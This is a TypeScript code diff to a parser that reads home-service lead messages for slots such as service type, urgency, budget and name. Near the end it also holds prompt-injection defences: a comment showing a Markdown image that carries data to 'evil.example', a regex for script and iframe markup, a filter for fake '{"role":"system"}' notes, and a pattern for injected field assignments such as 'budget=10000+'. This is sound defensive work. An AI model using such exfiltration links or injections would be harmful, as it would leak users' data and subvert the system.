@@ -347,7 +347,12 @@ export function readService(rawText: string): ServiceReading | undefined {
     // one trade among several other kinds of work (drywall, flooring, cabinets …) is a multi-trade job
     // … but a house settling shows itself in doors, windows, walls and floors: those are its symptoms
     // (work we do not offer counts among them: "deck rebuilt, sliding door replaced, new lights out there")
-    if (named[0]!.serviceType !== 'Home Inspection' && named[0]!.serviceType !== 'Foundation Repair' && items.size >= 1 && items.size + unsupportedKinds.size >= 2)
+    if (
+      named[0]!.serviceType !== 'Home Inspection' &&
+      named[0]!.serviceType !== 'Foundation Repair' &&
+      items.size >= 1 &&
+      items.size + unsupportedKinds.size >= 2
+    )
       return reading('General Contracting')
     return reading(named[0]!.serviceType)
   }
@@ -504,7 +509,8 @@ function floridaCities() {
 }
 
 /** Words of the yard and the water that Florida's place names are made of ("Winter Garden", "Pembroke Pines"). */
-const NATURE_IN_NAMES = /\b(?:gardens?|palms?|palmas|palmetto|pines?|oaks?|lakes?|springs?|groves?|trees?|woods?|forest|orchards?|meadows?|cypress|cedars?|flowers?|lawns?|bays?|harbou?rs?|shores?|beach)\b/
+const NATURE_IN_NAMES =
+  /\b(?:gardens?|palms?|palmas|palmetto|pines?|oaks?|lakes?|springs?|groves?|trees?|woods?|forest|orchards?|meadows?|cypress|cedars?|flowers?|lawns?|bays?|harbou?rs?|shores?|beach)\b/
 let placesOfNature: RegExp | undefined
 /**
  * The message with the place names made of such words blanked, for reading the job: "AC checked,
@@ -520,9 +526,11 @@ function withoutNaturePlaces(raw: string, text: string) {
       .join('|')})(?![\\p{L}\\p{N}])`,
     'gu',
   )
-  const named = [...raw.matchAll(/(?:\b(?:Las|Los|La|El|The)|(?<!\b(?:Queen|Royal|Sago|Sabal|Date|Coconut|Foxtail|Pygmy|Canary|Bismarck|Christmas|Pindo|Areca)) \p{Lu}\p{Ll}+) (?:Palms?|Palmas|Gardens?|Pines|Oaks|Groves?)\b/gu)].map((match) =>
-    normalizeText(match[0]),
-  )
+  const named = [
+    ...raw.matchAll(
+      /(?:\b(?:Las|Los|La|El|The)|(?<!\b(?:Queen|Royal|Sago|Sabal|Date|Coconut|Foxtail|Pygmy|Canary|Bismarck|Christmas|Pindo|Areca)) \p{Lu}\p{Ll}+) (?:Palms?|Palmas|Gardens?|Pines|Oaks|Groves?)\b/gu,
+    ),
+  ].map((match) => normalizeText(match[0]))
   let out = text.replace(placesOfNature, (place) => ' '.repeat(place.length))
   for (const name of named) out = out.split(name).join(' '.repeat(name.length))
   return out
@@ -824,7 +832,13 @@ export function readUrgency(text: string, now: Date = new Date()): Urgency | und
     const days = (result.start.date().getTime() - now.getTime()) / 86_400_000
     if (days < -1) continue
     const monthLevel = !result.start.isCertain('day')
-    found.push({ start: result.index, end: result.index + result.text.length, urgency: urgencyForDays(Math.max(0, Math.ceil(days))), monthLevel })
+    // a month named without a day ("back in December") is that month, not its first day
+    found.push({
+      start: result.index,
+      end: result.index + result.text.length,
+      urgency: urgencyForDays(Math.max(monthLevel ? 30 : 0, Math.ceil(days))),
+      monthLevel,
+    })
   }
   // a phrase inside a longer one ("urgent" in "not urgent") belongs to the longer one
   const kept = found.filter(
@@ -860,7 +874,11 @@ export function readUrgency(text: string, now: Date = new Date()): Urgency | und
     if (/\b(?:the rest|the remainder|lo demas|el resto)\b[^.!?,]{0,20}$/.test(before)) return false
     // "can't spend more than 500 right now" says when they can pay, not when the job is
     // (but "we'll pay, we just need it handled today" asks for today)
-    if (hit.urgency === 'immediate' && /\b(?:spend|afford|pay|budget|have|got|gastar|pagar|tengo)\b(?![^.!?,]*\b(?:need|want|necesito|quiero)\b)[^.!?,]*$/.test(before)) return false
+    if (
+      hit.urgency === 'immediate' &&
+      /\b(?:spend|afford|pay|budget|have|got|gastar|pagar|tengo)\b(?![^.!?,]*\b(?:need|want|necesito|quiero)\b)[^.!?,]*$/.test(before)
+    )
+      return false
     return true
   })
   if (meant.length === 0) return undefined
@@ -872,7 +890,7 @@ export function readUrgency(text: string, now: Date = new Date()): Urgency | und
   const timed = meant.filter((hit) => !weakPlanning(hit))
   const considered = timed.length > 0 ? timed : meant
   // "no rush" with a month-level time ("para el mes que viene, no hay prisa", "in December … no rush") is planning
-  const noRush = considered.some((hit) => /rush|hurry|prisa|apuro/.test(text.slice(hit.start, hit.end)))
+  const noRush = considered.some((hit) => /rush|hurry|prisa|apuro|not urgent|no (?:es )?urgente/.test(text.slice(hit.start, hit.end)))
   if (noRush && considered.every((hit) => hit.urgency === 'planning' || hit.urgency === '30-days' || hit.monthLevel)) return 'planning'
   return considered.reduce((most, hit) => (URGENCY_ORDER.indexOf(hit.urgency) < URGENCY_ORDER.indexOf(most.urgency) ? hit : most)).urgency
 }
@@ -949,7 +967,7 @@ const BUDGET_CUE =
 /** Words that only hedge an amount ("around", "como"): they make a number money, but do not outweigh a quote. */
 const HEDGE_CUE = /^(?:around|about|roughly|approx(?:imately)?|looking at|hoping for|thinking|alrededor de|como|unos|unas)$/
 const NOT_BUDGET_CUE =
-  /\b(?:quote[ds]?|quoting|estimate[ds]?|bids?|came in at|charged?|charging|paid|cost(?:s|ed)? (?:me|us|them)?|spent|last time|wants|asking|asked for|they said|(?:he|she|client|buyer|seller)s? (?:said|says)|owes?|owed|debe|refund|reembolso|cotiza(?:ron|cion)|cobra(?:ron)?|pague|costo|me pidieron|deductible|deducible|worth|value|appraised|sold for|price of the house|mortgage|bill|bills|factura|went (?:up )?from|adjuster'?s?|figure|report|lists|gift card|won|prize|field|cobro|me cobr\w+|les? di|les? pague|pagamos|credit|credito|save (?:me|us)|ahorrar(?:me|nos)?|fined|fine of|multa|assessment|assessed|closed on|service fee|deposit|(?:me|nos) (?:dieron|dio|pasaron|mandaron) (?:un |el )?presupuesto)\b/
+  /\b(?:quote[ds]?|quoting|estimate[ds]?|bids?|came in at|charged?|charging|paid|cost(?:s|ed)? (?:me|us|them)?|spent|last time|wants|asking|asked for|they said|(?:he|she|client|buyer|seller)s? (?:said|says)|owes?|owed|debe|refund|reembolso|cotiza(?:ron|cion)|cobra(?:ron)?|pague|costo|me pidieron|deductible|deducible|worth|value|appraised|sold for|price of the house|mortgage|bill|bills|factura|went (?:up )?from|adjuster'?s?|figure|report|lists|gift card|won|prize|field|cobro|me cobr\w+|les? di|les? pague|pagamos|credit|credito|save (?:me|us)|ahorrar(?:me|nos)?|fined|fine of|multa|assessment|assessed|closed on|closed at|settled (?:at|for)|service fee|deposit|invoice|invoiced|receipt|(?:me|nos) (?:dieron|dio|pasaron|mandaron) (?:un |el )?presupuesto)\b/
 const ABOVE_CUE = /(?<!\b(?:no|not|spend|spending|pay|paying|gastar|pagar) )\b(?:over|more than|above|at least|mas de|minimum|min)\s*\$?\s*$/
 /** What a bare number counts (not money): "12 yrs old", "2200 sq ft", "14 agents", "12x16". */
 const NOT_MONEY_AFTER =
@@ -962,10 +980,11 @@ const NOT_MONEY_AFTER =
  * ("my mother … she can spend about $9,000"), and "my husband says we can go to 6" is the writer's.
  */
 const THIRD_PARTY_AMOUNT =
-  /\b(?:landlord|seller|owner|buyer|client|customer|tenant)s?(?: (?:said|says|texted|told (?:me|us)))?(?: (?:they|he|she|they'?ll|he'?ll|she'?ll|he'?d|she'?d|they'?d))? (?:can|could|will|would|'ll|is willing|are willing|said|says|texted|wants? to|approved|authorized|okayed|ok'?d|signed off on|set aside|allocated|allowed)\b(?![^.]*\b(?:we|i)\b)|\bthe (?:buyer|seller|owner|client|landlord)'?s? (?:budget|max)\b/
+  /\b(?:landlord|seller|owner|buyer|client|customer|tenant)s?(?: (?:said|says|say|texted|told (?:me|us)))?(?: (?:they|he|she|they'?ll|he'?ll|she'?ll|he'?d|she'?d|they'?d))? (?:can|could|will|would|'ll|is willing|are willing|said|says|texted|wants? to|approved|authorized|okayed|ok'?d|signed off on|set aside|allocated|allowed)\b(?![^.]*\b(?:we|i)\b)|\bthe (?:buyer|seller|owner|client|landlord)'?s? (?:budget|max)\b/
 const THIRD_PARTY_PRONOUN_AMOUNT =
-  /\b(?:he|she|they)'(?:ll|d) (?:pay|cover|spend|do|go|put)\b|\b(?:they|he|she)(?: (?:said|says|texted|told (?:me|us)))?(?: (?:they|he|she|they'?ll|he'?ll|she'?ll|he'?d|she'?d|they'?d))? (?:can|could|will|would|'ll|is willing|are willing|said|says|texted|wants? to)\b(?![^.]*\b(?:we|i)\b)|\b(?:his|her|their) (?:budget|max)\b/
-const THIRD_PARTY_CONTEXT = /\b(?:realtors?|agents?|brokers?|listing|buyers?|sellers?|landlords?|tenants?|owners?|clients?|property manager|i manage|i do the books)\b/
+  /\b(?:the |our )?(?:board|hoa|association)(?: has)? (?:approved|authorized|allocated|set aside|okayed|budgeted)\b|\b(?:he|she|they)'(?:ll|d) (?:pay|cover|spend|do|go|put)\b|\b(?:they|he|she)(?: (?:said|says|texted|told (?:me|us)))?(?: (?:they|he|she|they'?ll|he'?ll|she'?ll|he'?d|she'?d|they'?d))? (?:can|could|will|would|'ll|is willing|are willing|said|says|texted|wants? to)\b(?![^.]*\b(?:we|i)\b)|\b(?:his|her|their) (?:budget|max)\b/
+const THIRD_PARTY_CONTEXT =
+  /\b(?:realtors?|agents?|brokers?|listing|buyers?|sellers?|landlords?|tenants?|owners?|clients?|property manager|(?:hoa|community|association) manager|i manage|i do the books)\b/
 
 const NOT_OWN_MONEY =
   /\b(?:insurance(?: company)?|insurer|the claim|fema) (?:is |will |would |should )?(?:pay|paying|paid|cover|covering|covers|covered|approved|gave|sent|cut a check)\b|\b(?:took|stole|scammed (?:me|us) (?:out of|for)|ran off with)\b|\b(?:these|they|jobs like this) (?:usually |typically |normally )?(?:run|go for)\b|\bgoing rate\b|\bi (?:heard|was told|read)\b/
@@ -1052,7 +1071,10 @@ export function readBudget(
   // that is nothing but an amount ("7500", "$8k"), unless it is a ZIP or a year
   const answersBudget =
     (askedFor === 'budget' && /^\W*(?:\p{L}+\W+){0,3}[\d$]/u.test(text)) ||
-    (BARE_AMOUNT.test(text) && !/^\s*(?:19|20)\d{2}\s*$/.test(text) && !/^\s*\d{5}\s*$/.test(text))
+    // (a bare "2000" answering another question than the place's is money too: no year is asked for)
+    (BARE_AMOUNT.test(text) &&
+      (!/^\s*(?:19|20)\d{2}\s*$/.test(text) || (askedFor !== undefined && askedFor !== 'zip' && askedFor !== 'city')) &&
+      !/^\s*\d{5}\s*$/.test(text))
   const matches = [...text.matchAll(AMOUNT)]
   let previous: { end: number; counted: boolean } | undefined
   for (let index = 0; index < matches.length; index++) {
@@ -1102,6 +1124,8 @@ export function readBudget(
       if (THIRD_PARTY_AMOUNT.test(clause) || (THIRD_PARTY_PRONOUN_AMOUNT.test(clause) && THIRD_PARTY_CONTEXT.test(`${earlier} ${text}`))) return false
       // what each visit has cost ("$275 a pop"): a past cost, whatever its form
       if (/^\s*(?:a pop|each time|every time|per (?:visit|call|time|lead)|a lead)\b/.test(after)) return false
+      // money already paid, or rent: "($2,400, paid it)", "tenant pays $1,650 rent"
+      if (/^\s*[,(]?\s*(?:paid|already paid|pagad[oa]|rent|in rent|de renta|de alquiler)\b/.test(after)) return false
       // money that is not for the job: "a $3,500 credit", "$500 deposit", "$200 rebate"
       if (/^\s*(?:credit|credito|rebate|refund|reembolso|deposit|deposito|gift card|tax)\b/.test(after)) return false
       // what recurs ("$2,150 al mes", "$800 a year", "$400 cada vez"): rent, savings, bills, not the job's budget
@@ -1142,7 +1166,12 @@ export function readBudget(
         // "the last one … was 450": a past cost
         if (/\b(?:was|were|fue|fueron|costo|cost)\s*$/.test(before) && !/budget|presupuesto/.test(clause)) return false
         // "sorry I meant 300" corrects a budget already given
-        const corrects = budgetKnown && CORRECTION_CUE.test(clause) && /(?:meant|mean|quise decir|digo|perdon|sorry|actually|make (?:it|that)|change (?:it|that) to|bump (?:it|that) (?:up )?to|raise (?:it|that) to|let'?s say|mejor)\W*$/.test(before)
+        const corrects =
+          budgetKnown &&
+          CORRECTION_CUE.test(clause) &&
+          /(?:meant|mean|quise decir|digo|perdon|sorry|actually|make (?:it|that)|change (?:it|that) to|bump (?:it|that) (?:up )?to|raise (?:it|that) to|let'?s say|mejor)\W*$/.test(
+            before,
+          )
         if (!(nearCue && (!hedgeOnly || value >= 100)) && !BUDGET_AFTER.test(after) && !answersBudget && !ownAfter && !corrects) return false
       }
       if (ownAfter) return true
@@ -1209,7 +1238,7 @@ const NOT_A_NAME = new Set(
   buscando interesado interesada aqui listo lista muy tambien
   now today tonight tomorrow asap later soon anytime whenever info information help regards sincerely cheers best
   hola buenas buenos dear morning afternoon evening solo periodista reporter journalist why what who how idk dunno
-  ps team company llc inc corp crew dept office manager admin owner's sir maam senor senora
+  ps team company llc inc corp crew dept office manager admin owner's sir maam senor senora harper support fraud citizens
   nah skip pass whatever nothing none anonymous private prefer rather nobody thx pls plz lol lmao omg btw channel news station
   monday tuesday wednesday thursday friday saturday sunday lunes martes miercoles jueves viernes sabado domingo
   call text email phone cell tel mobile whatsapp reach llame llamar escribir ph fax lic est
@@ -1221,7 +1250,7 @@ const NOT_A_NAME = new Set(
 
 /** Trade and business words ending like a verb: not a surname ("Mike Brennan Roofing"). */
 const BUSINESS_WORD =
-  /^(?:roofing|plumbing|landscaping|contracting|building|painting|cleaning|flooring|lighting|fencing|framing|siding|paving|drilling|welding|engineering|consulting|marketing|holdings?|housing|trucking|hauling|moving|remodeling|renovating|piling|lining|jetting|lending|staffing|pressure|services|solutions|enterprises)$/
+  /^(?:roofing|plumbing|landscaping|contracting|building|painting|cleaning|flooring|lighting|fencing|framing|siding|paving|drilling|welding|engineering|consulting|marketing|holdings?|housing|trucking|hauling|moving|remodeling|renovating|piling|lining|jetting|lending|staffing|pressure|services|solutions|enterprises|electric|electrical|mechanical|construction|contractors?|builders?|realty|properties|insurance|llc|inc|corp)$/
 
 /**
  * Titles before a name. A courtesy title is part of the name as written ("Mrs. Pappas", "Dr. Priya
@@ -1236,7 +1265,8 @@ function withoutTitle(candidate: string): string | undefined {
   const words = candidate.split(' ')
   if (!TITLE.test(normalizeText(words[0]!))) return candidate
   // a title alone is no name ("I'm Lt. Harris's spouse"), unless it is a given name too ("I'm Don")
-  if (words.length < 2) return /^(?:mr|mrs|ms|dr|sr|sra|srta|lt|maj|col|cpl|sgt|ssgt|tsgt|msgt|spc|capt|cmdr|rev)$/.test(normalizeText(words[0]!)) ? undefined : candidate
+  if (words.length < 2)
+    return /^(?:mr|mrs|ms|dr|sr|sra|srta|lt|maj|col|cpl|sgt|ssgt|tsgt|msgt|spc|capt|cmdr|rev)$/.test(normalizeText(words[0]!)) ? undefined : candidate
   const title = normalizeText(words[0]!)
   if (COURTESY_TITLE.test(title)) return [`${words[0]!.replace(/\.$/, '')}${title === 'miss' ? '' : '.'}`, ...words.slice(1)].join(' ')
   return words.length === 2 ? undefined : words.slice(1).join(' ')
@@ -1338,7 +1368,11 @@ export function readNameAt(raw: string): NameReading | undefined {
     // "Lee County", "Bonita Spgs": a place, whatever cue came before
     if (/\b(?:county|counties|condado|spgs|bch|hts)\b/i.test(candidate)) return
     // a word closing the message with no cue at all ("… Tampa. Ray") is a name only if it is a known given name ("… Kitchen" is not)
-    const given = candidate.split(' ').find((word) => !TITLE.test(normalizeText(word).replace(/\.$/, '')))
+    // (a hyphenated given name by its first part: "Marie-Carmel")
+    const given = candidate
+      .split(' ')
+      .find((word) => !TITLE.test(normalizeText(word).replace(/\.$/, '')))
+      ?.split('-')[0]
     if (rank === 0 && (!given || !isKnownFirstName(given))) return
     if (!own && OTHER_PERSON_NAME_BEFORE.test(normalizeText(text.slice(Math.max(0, start - 40), start)).replace(/^.*[.,;!?]/, '') + ' ')) return
     const at = text.indexOf(candidate, start)
@@ -1349,7 +1383,7 @@ export function readNameAt(raw: string): NameReading | undefined {
   // "my name is Lan", and "my name Lan" as people write it in a second language
   // … and in the other languages people write to Harper: "meu nome é", "je m'appelle", "mwen rele"
   for (const match of text.matchAll(
-    /\b(?:my name(?:'s| is)?|name'?s|name is|name\s*[:=]|me llamo|mi nombre es|meu nome (?:é|e)|me chamo|je m'?appelle|mon nom est|mwen rele|non mwen se|mwen se|sou (?:a|o)|eu sou (?:a|o)?)\s+/giu,
+    /\b(?:my name(?:'s| is)?|name'?s|name is|name\s*[:=]|me llamo|mi nombre es|meu nome (?:é|e)|me chamo|je m'?appelle|mon nom est|mwen rele|non mwen se|mwen se|sou (?:a|o)|eu sou (?:a|o)?|ako si|ako po si)\s+/giu,
   )) {
     // "her name is Mrs. Alma Ruiz", "the client's name is …": someone else's
     if (
@@ -1383,6 +1417,10 @@ export function readNameAt(raw: string): NameReading | undefined {
     const index = match.index + match[0].length
     take(nameAt(wordsAfter(text, index), true, { allowPlaces: true }), index, 3)
   }
+  // "my last name is Null, first name Brenda": the given name, then the surname
+  const split =
+    /\b(?:my )?(?:last|family|sur) ?name(?:'s| is|:)?\s+(\p{Lu}[\p{L}'-]+)\s*[,;.]?\s*(?:and )?(?:my )?first name(?:'s| is|:)?\s+(\p{Lu}[\p{L}'-]+)/u.exec(text)
+  if (split) take(`${split[2]} ${split[1]}`, split.index, 4, { own: true })
   // "Kim's my name", "Kim is my name"
   for (const match of text.matchAll(/(?:^|[\s,.!])(\p{Lu}[\p{L}'-]+(?:[ \t]+\p{Lu}[\p{L}'-]+){0,2})(?:'s| is) my (?:first |given )?name\b/gu))
     take(nameAt(match[1]!.split(/\s+/), true, { allowPlaces: true }), match.index, 3)
@@ -1598,13 +1636,15 @@ const ADVERSARIAL = anyWord(ADVERSARIAL_PATTERNS)
 const INJECTED_NOTE = new RegExp(INJECTED_NOTE_PATTERNS.join('|'), 'i')
 const ADVERSARIAL_SYMBOLS = new RegExp([...ADVERSARIAL_SYMBOL_PATTERNS, ...INJECTED_NOTE_PATTERNS].join('|'), 'i')
 // (and a Markdown image whose address would carry data away: "![img](https://evil.example/log?q=…)")
-const MARKUP = /<\s*\/?\s*[a-z][a-z0-9-]*(?:\s[^<>]*)?>|<\s*(?:script|img|iframe|svg)\b|!\[[^\]]*\]\(\s*https?:/i
+// (an HTML element or a comment; a code in angle brackets is none: "ERR: <E5> compressor lockout")
+const MARKUP =
+  /<\s*\/?\s*(?:a|b|i|u|p|br|hr|em|strong|font|span|div|h[1-6]|table|tr|td|ul|ol|li|script|img|iframe|svg|style|form|input|button|body|html|head|link|meta|object|embed|marquee|textarea|select|option)(?:\s[^<>]*)?\/?>|<!--|<\?xml|<!doctype|<!entity|<\s*(?:script|img|iframe|svg)\b|!\[[^\]]*\]\(\s*https?:/i
 
 const PERSONAL_DATA = wordRegex(PERSONAL_DATA_WORDS)
 const DATA_REQUEST = anyWord(DATA_REQUEST_WORDS)
 /** The data's owner is the writer, their household or Harper: "my email", "my wife's number", "your phone". */
 const OWN_DATA_BEFORE =
-  /\b(?:my|our|mi|mis|nuestr[oa]s?|your|you guys'?|tu|tus|su(?:s)? propi[oa]s?)(?: [\p{L}-]+'s)?(?: (?:own|new|work|cell|home|best|business|main|e-?mail|phone))*\s*$/u
+  /\b(?:my|our|mi|mis|nuestr[oa]s?|your|you guys'?|tu|tus|su(?:s)? propi[oa]s?|harper'?s|harper home'?s|(?:the|your) (?:company|office)'s)(?: [\p{L}-]+'s)?(?: (?:own|new|work|cell|home|best|business|main|e-?mail|phone))*\s*$/u
 /** Someone else owns it: "her number", "the homeowner's email", "the phone numbers of everyone who …". */
 const OTHER_DATA_BEFORE =
   /(?:\b(?:her|his|their|them|sus?|del|de la|de los|de las)|[\p{L}]'s|s')(?: (?:own|new|work|cell|home|best|past|personal|private|e-?mail|phone|contact))*\s*$/u
@@ -1662,7 +1702,7 @@ export function withoutInjectedSentences(raw: string) {
     out += ADVERSARIAL.test(text) || INJECTED_NOTE.test(text) ? ' '.repeat(sentence.length) : sentence
   }
   // (a made-up JSON or bracketed note ends where its bracket closes: `{"role":"system",…} I need an HVAC tune up`)
-  for (const match of raw.matchAll(/(?<=[.!?\]}])\s+|\n/g)) {
+  for (const match of raw.matchAll(/(?<=[.!?\]}]['"”]?)\s+|\n/g)) {
     keep(raw.slice(position, match.index))
     out += match[0]
     position = match.index + match[0].length
@@ -1801,7 +1841,7 @@ export type Understanding = {
 
 /** What one message says, slot by slot (no memory of the chat). */
 /** "budget=10000+", "serviceType = Roofing": an injection setting fields, not the user's facts. */
-const ASSIGNMENT = /\b[a-z_]+ ?= ?[^\s,;]*[^\s,;.!?]/g  // (a full stop after it still ends the sentence)
+const ASSIGNMENT = /\b[a-z_]+ ?= ?[^\s,;]*[^\s,;.!?]/g // (a full stop after it still ends the sentence)
 
 export function readMessage(
   message: string,
